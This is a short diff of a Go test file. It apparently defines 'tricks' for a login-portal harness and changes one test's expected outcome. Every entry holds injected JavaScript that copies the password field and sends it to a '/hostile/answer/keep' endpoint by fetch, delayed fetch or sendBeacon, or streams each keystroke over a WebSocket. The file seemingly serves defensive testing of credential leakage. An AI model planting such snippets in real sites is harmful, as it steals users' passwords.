@@ -198,7 +198,7 @@ func (p *Portal) senders() []trick {
 		return p.with(`document.forms[0].onsubmit = async e => { ` + script + ` }`)
 	}
 	return []trick{
-		{name: "twice", gets: Once, says: "signed_in|wrong_credentials", html: on(`fetch('/hostile/answer/keep', {method: 'POST', body: new URLSearchParams({password: p.value})})`)},
+		{name: "twice", gets: Perhaps, says: "signed_in|wrong_credentials", html: on(`fetch('/hostile/answer/keep', {method: 'POST', body: new URLSearchParams({password: p.value})})`)},
 		{name: "late-copy", gets: Once, says: "signed_in|wrong_credentials", html: on(`setTimeout(() => fetch('/hostile/answer/keep', {method: 'POST', body: p.value}), 200)`)},
 		{name: "beacon", gets: Once, says: "signed_in|wrong_credentials", html: on(`navigator.sendBeacon('/hostile/answer/keep', p.value)`)},
 		{name: "socket", gets: Once, says: "signed_in", html: p.with(`const w = new WebSocket(location.origin.replace('https', 'wss') + '/socket'); w.onmessage = e => document.body.append(e.data); p.oninput = () => w.send(p.value)`)},
